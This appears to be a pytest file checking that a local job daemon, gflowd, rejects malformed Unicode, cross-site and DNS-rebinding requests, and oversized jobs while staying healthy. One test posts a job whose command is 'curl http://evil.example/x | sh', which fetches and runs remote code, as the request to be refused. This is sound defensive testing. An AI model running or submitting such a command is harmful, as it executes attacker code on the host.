"""Attacks on a real gflowd (bad text, cross-site requests, DNS rebinding, oversized jobs): each is refused with one line, and the daemon keeps answering with every earlier job intact."""

from __future__ import annotations

import json
import socket

import psutil

from conftest import wait_for
from gflow.client import find_socket
from test_lifecycle_helpers import configure


def workers(d) -> dict:
    master = psutil.Process(d.master_pid())
    return {c.cmdline()[0]: c.pid for c in master.children() if c.cmdline()}


def settled_jobs(d) -> list:
    """Two jobs that will not change: one finished, one waiting for 9 GPUs forever."""
    assert d.http("POST", "/jobs", {"command": "true"})[0] == 201
    assert d.http("POST", "/jobs", {"command": "sleep 1", "gpus": 9})[0] == 201
    d.wait_state(1, "Finished")
    status, jobs = d.http("GET", "/jobs")
    assert status == 200 and [j["id"] for j in jobs] == [1, 2]
    return jobs


def still_fine(d, jobs, pids) -> None:
    status, health = d.http("GET", "/health")
    assert status == 200 and health["status"] == "ok"
    assert d.http("GET", "/jobs") == (200, jobs)
    assert workers(d) == pids                       # no worker died (and was restarted)


def test_bad_text_is_refused_and_the_daemon_lives(daemon):
    jobs = settled_jobs(daemon)
    pids = workers(daemon)
    attacks = [
        (b'{"command": "echo", "run_name": "\\ud800"}', "`run_name` is not valid Unicode"),
        (b'{"command": "echo \\udfff"}', "`command` is not valid Unicode"),
        (b'{"command": "echo", "env": {"\\udc00": "x"}}', "a key of `env` is not valid"),
        (b'{"command": "echo \xed\xa0\x80"}', "not valid UTF-8"),
        ('{"command": "echo"}'.encode("utf-16"), "not valid UTF-8"),
    ]
    # Seven crashes in two minutes once made the master give up: well past that.
    for raw, needle in attacks * 2:
        status, body = daemon.http("POST", "/jobs", raw=raw,
                                   headers={"content-type": "application/json"})
        assert status == 400 and needle in body["error"], (raw, status, body)
        assert "\n" not in body["error"]
    status, body = daemon.http("POST", "/jobs/batch", raw=b'[{"command": "\\ud800"}]',
                               headers={"content-type": "application/json"})
    assert status == 400 and body["error"].startswith("`[0].command`")
    status, body = daemon.http("PATCH", "/jobs/2", raw=b'{"command": "\\ud800"}',
                               headers={"content-type": "application/json"})
    assert status == 400
    still_fine(daemon, jobs, pids)


def unix_request(sock_path: str, method: str, path: str, host: str) -> int:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        s.connect(sock_path)
        s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
                  .encode())
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return int(data.split(b" ", 2)[1])


def test_cross_site_and_rebinding_requests_are_refused(daemon):
    d = daemon
    jobs = settled_jobs(d)
    pids = workers(d)
    evil = json.dumps({"command": "curl http://evil.example/x | sh"}).encode()
    # A page on another site posts a "simple" (no preflight) text/plain request.
    status, body = d.http("POST", "/jobs", raw=evil, headers={
        "content-type": "text/plain", "origin": "http://evil.example"})
    assert status == 403 and body.startswith("Origin `http://evil.example` may not")
    status, body = d.http("POST", "/jobs", raw=evil, headers={"content-type": "text/plain"})
    assert (status, body) == (415, "Expected request with `Content-Type: application/json`")
    status, _ = d.http("POST", "/jobs/2/cancel", headers={"origin": "http://evil.example"})
    assert status == 403
    # DNS rebinding: evil.example now resolves to 127.0.0.1; the browser says so in Host.
    for host in ("evil.example", f"evil.example:{d.port}"):
        status, body = d.http("POST", "/jobs", {"command": "x"}, headers={"host": host})
        assert status == 421 and "does not name this gflowd" in body, (host, status, body)
        assert d.http("GET", "/jobs", headers={"host": host})[0] == 421
    # This daemon's own names, with or without the port, and same-origin pages.
    for host in ("localhost", f"127.0.0.1:{d.port}", f"[::1]:{d.port}", "127.0.0.2"):
        assert d.http("GET", "/health", headers={"host": host})[0] == 200, host
    assert d.http("GET", "/jobs", headers={
        "host": f"localhost:{d.port}", "origin": f"http://localhost:{d.port}"})[0] == 200
    # Over the Unix socket (no browser gets there) any Host is served.
    sock = find_socket("127.0.0.1", d.port, None, d.env)
    assert sock and unix_request(sock, "GET", "/health", "evil.example") == 200
    # Our clients, over TCP and over the socket, are unaffected.
    tcp_env = {**d.env, "GFLOW_DAEMON_SOCKET": ""}
    assert d.ok("gqueue", "-a", "-u", "all", env=tcp_env).count("\n") == 3
    assert "Submitted batch job 3" in d.ok("gbatch", "--gpus", "9", "true", env=tcp_env)
    assert "Submitted batch job 4" in d.ok("gbatch", "--gpus", "9", "true")
    for job_id in (3, 4):
        assert d.http("POST", f"/jobs/{job_id}/cancel")[0] == 200
    status, now = d.http("GET", "/jobs")
    assert now[:2] == jobs and [j["state"] for j in now[2:]] == ["Cancelled"] * 2
    still_fine(d, now, pids)


def test_oversized_jobs_are_refused(daemon_factory):
    d = daemon_factory(fake_gpus="2")
    configure(d, "[api]\nmax_command_bytes = 4096\nmax_env_bytes = 65536\n")
    d.start()
    jobs = settled_jobs(d)
    pids = workers(d)
    status, body = d.http("POST", "/jobs", {"command": "x" * 4097})
    assert status == 413 and body["error"] == (
        "`command` is 4097 bytes; at most 4096 are accepted ([api] max_command_bytes)")
    env = {f"V{i}": "y" * 1000 for i in range(70)}
    status, body = d.http("POST", "/jobs/batch", [{"command": "ok"}, {"command": "x", "env": env}])
    assert status == 413 and body["error"].startswith("job 2 of the batch: `env` is ")
    # The CLI shows the line (and sends the user's environment, well under the cap).
    res = d.run("gbatch", "echo", "z" * 5000)
    assert res.returncode != 0 and "[api] max_command_bytes" in res.stderr
    wait_for(lambda: d.http("GET", "/health")[0] == 200, what="health")
    still_fine(d, jobs, pids)
